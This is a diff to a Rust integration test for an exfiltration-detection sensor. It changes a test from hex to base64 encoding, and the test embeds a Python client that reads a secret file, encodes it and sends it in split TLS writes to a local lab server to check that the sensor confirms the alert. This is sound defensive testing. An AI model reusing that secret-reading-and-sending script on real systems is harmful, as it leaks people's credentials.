@@ -5,7 +5,6 @@
 //! tainted process whose bytes carry no value keeps its plain data-flow alert: severity tells
 //! a responder which is which.
 
-use std::fmt::Write;
 use std::fs::{self, File};
 use std::net::{IpAddr, Ipv4Addr};
 use std::path::Path;
@@ -84,19 +83,19 @@ fn a_secret_sent_base64_encoded_over_tls_by_curl_confirms_its_alert() -> Result<
 
 #[test]
 #[ignore = "needs root and BPF: run with cargo xtask test"]
-fn a_hex_encoded_secret_split_across_pythons_tls_writes_is_confirmed() -> Result<()> {
+fn a_base64_encoded_secret_split_across_pythons_tls_writes_is_confirmed() -> Result<()> {
     let lab = Lab::new(actor_exe!())?;
     let cert = certificate(lab.dir())?;
     let sensor = sensor_with_digests(&lab, &[])?;
     let server = Server::start(&lab, Some(&cert))?;
     let dest = server.addr;
     let client = format!(
-        "import socket, ssl\n\
+        "import base64, socket, ssl\n\
          context = ssl.create_default_context()\n\
          context.check_hostname = False\n\
          context.verify_mode = ssl.CERT_NONE\n\
          tls = context.wrap_socket(socket.create_connection(('{ip}', {port}), timeout=10))\n\
-         value = open({secret:?}).read().split('=')[1].strip().encode().hex().encode()\n\
+         value = base64.b64encode(open({secret:?}).read().split('=')[1].strip().encode())\n\
          tls.sendall(b'POST / HTTP/1.1\\r\\nHost: vigie-test\\r\\nContent-Length: %d\\r\\n\\r\\n' % len(value))\n\
          for part in (value[:5], value[5:17], value[17:]):\n    tls.sendall(part)\n\
          tls.recv(4096)\n",
@@ -109,13 +108,12 @@ fn a_hex_encoded_secret_split_across_pythons_tls_writes_is_confirmed() -> Result
     ensure!(python.wait()?.success(), "the python client failed");
     server.received()?;
 
-    expect_confirmed(&sensor, pid, "hex")?;
+    expect_confirmed(&sensor, pid, "base64")?;
     let value = secret_value(&lab)?;
-    let hex = value.bytes().fold(String::new(), |mut hex, b| {
-        let _ = write!(hex, "{b:02x}");
-        hex
-    });
-    assert_never_printed(&sensor, &[value, hex]);
+    // `printf %s VALUE | base64`, run by a shell that reads no secret.
+    let script = format!("printf %s '{value}' | base64 -w0");
+    let encoded = String::from_utf8(Command::new("sh").args(["-c", &script]).output()?.stdout)?;
+    assert_never_printed(&sensor, &[value, encoded]);
     Ok(())
 }
 
